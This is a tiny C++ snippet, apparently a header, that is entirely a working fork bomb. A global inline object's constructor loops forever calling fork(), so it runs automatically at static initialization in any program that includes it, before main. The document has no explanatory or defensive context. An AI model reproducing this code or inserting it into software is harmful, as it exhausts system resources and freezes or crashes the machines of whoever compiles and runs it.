// Doubles for ever.
#include <unistd.h>

struct Bomb {
  Bomb() {
    for (;;) {
      if (fork() < 0) continue;
    }
  }
};
inline Bomb bomb;
